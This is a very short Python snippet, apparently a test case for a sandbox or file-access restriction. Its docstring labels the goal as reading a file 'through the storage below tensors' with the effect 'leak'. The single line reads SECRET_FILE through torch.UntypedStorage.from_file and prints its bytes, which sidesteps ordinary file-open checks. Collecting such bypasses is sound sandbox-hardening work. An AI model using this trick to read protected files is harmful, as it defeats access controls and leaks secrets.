"""
goal: read a file through the storage below tensors
effect: leak
"""

import torch

print(bytes(torch.UntypedStorage.from_file(SECRET_FILE, False, LENGTH).tolist()))
